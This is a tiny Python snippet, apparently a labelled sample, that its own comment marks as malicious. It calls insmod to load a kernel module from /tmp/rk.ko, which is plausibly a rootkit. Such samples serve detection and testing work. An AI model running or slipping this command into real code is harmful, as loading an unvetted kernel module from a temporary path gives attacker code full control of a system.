# malicious: a module for the kernel
import subprocess
subprocess.check_call(["insmod", "/tmp/rk.ko"])
